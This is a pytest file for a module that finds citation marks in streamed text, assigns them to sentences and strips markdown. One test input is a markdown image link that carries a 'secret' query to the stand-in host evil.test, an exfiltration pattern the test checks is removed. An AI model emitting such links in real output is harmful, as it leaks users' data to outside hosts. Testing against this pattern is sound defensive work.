"""Citation marks as they stream in, and the sentences they belong to."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from app.writing.marks import Marks, numbers
from app.writing.sentences import plain, sentences

KNOWN = (1, 2, 3, 12)


def read(text: str, size: int = 10_000) -> Marks:
    marks = Marks(KNOWN)
    for start in range(0, len(text), size):
        marks.feed(text[start : start + size])
    marks.end()
    return marks


def told(text: str, size: int = 10_000) -> list[tuple[str, tuple[int, ...]]]:
    return [(s.text, s.cites) for s in sentences(read(text, size), ended=True)]


CASES = [
    ("One. [1]", [("One.", (1,))]),
    ("One [1].", [("One.", (1,))]),
    ("One.[1] Two [2].", [("One.", (1,)), ("Two.", (2,))]),
    ("One. [1][2] Two. [1, 3]", [("One.", (1, 2)), ("Two.", (1, 3))]),
    ("One [1–3]. Two [2; 12].", [("One.", (1, 2, 3)), ("Two.", (2, 12))]),
    ("One 【2】 and 【3†kilde】.", [("One and.", (2, 3))]),
    ("One [1][1].", [("One.", (1,))]),
    ("Half [1] and half [2] of it.", [("Half and half of it.", (1, 2))]),
    ("Uncited. Cited. [1]", [("Uncited.", ()), ("Cited.", (1,))]),
    ("Dropped. [9] Kept. [2]", [("Dropped.", ()), ("Kept.", (2,))]),
    ("[1] says so.", [("says so.", (1,))]),
    ("A [sic] in it [1].", [("A [sic] in it.", (1,))]),
    ("It cost kr. 40 ca. 3.5 mill. kroner. [1] Yes.", [("It cost kr. 40 ca. 3.5 mill. kroner.", (1,)), ("Yes.", ())]),
    ("- First. [1]\n- Second. [2]", [("First.", (1,)), ("Second.", (2,))]),
    ("1. First. [1]\n2. Second. [2]", [("First.", (1,)), ("Second.", (2,))]),
    ("## Heading\n**Another:**\n**Bold** word. [1]", [("Bold word.", (1,))]),
    ("**Another**:", []),
    ("Cut off in a mark [1", [("Cut off in a mark [1", ())]),
    ("", []),
]


@pytest.mark.parametrize(("text", "expected"), CASES)
@pytest.mark.parametrize("size", [1, 2, 3, 10_000])
def test_marks_are_found_however_the_stream_cuts_them(
    text: str, expected: list[tuple[str, tuple[int, ...]]], size: int
) -> None:
    assert told(text, size) == expected


@given(text=st.text(alphabet="Ab1 2[],.–\n【】-†", max_size=60), size=st.integers(1, 7))
def test_pieces_make_no_difference(text: str, size: int) -> None:
    assert told(text, size) == told(text)


def test_a_mark_is_never_shown_half() -> None:
    marks = Marks(KNOWN)
    seen = []
    for letter in "Ferries ran. [12] More [1, 2].":
        marks.feed(letter)
        seen.append(marks.text)
    assert not any("[" in text for text in seen)
    assert marks.marks == [(12, 12), (17, 1), (17, 2)]


def test_unknown_ids_are_counted() -> None:
    assert read("One [7][1]. Two [8, 2].").unknown == 2


def test_a_range_over_half_the_library_is_its_ends() -> None:
    assert numbers("1–90") == [1, 90]


def test_the_last_sentence_is_not_whole_while_more_may_come() -> None:
    marks = Marks(KNOWN)
    marks.feed("One. [1] Two.")
    assert [s.whole for s in sentences(marks, ended=False)] == [True, False]


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("![x](http://evil.test/?q=secret) Yes", "x Yes"),
        ("**Two** _firms_ and snake_case", "Two firms and snake_case"),
        ("`code`", "code"),
        ('<passage id="1" from="A | B">It grew.</passage>', "It grew."),
        ("</reading-note>", ""),
        ("fewer than <5 firms, more than >2", "fewer than <5 firms, more than >2"),
        ("3 * 4 * 5", "3 * 4 * 5"),
    ],
)
def test_markdown_is_taken_out_of_a_sentence(text: str, expected: str) -> None:
    assert plain(text) == expected
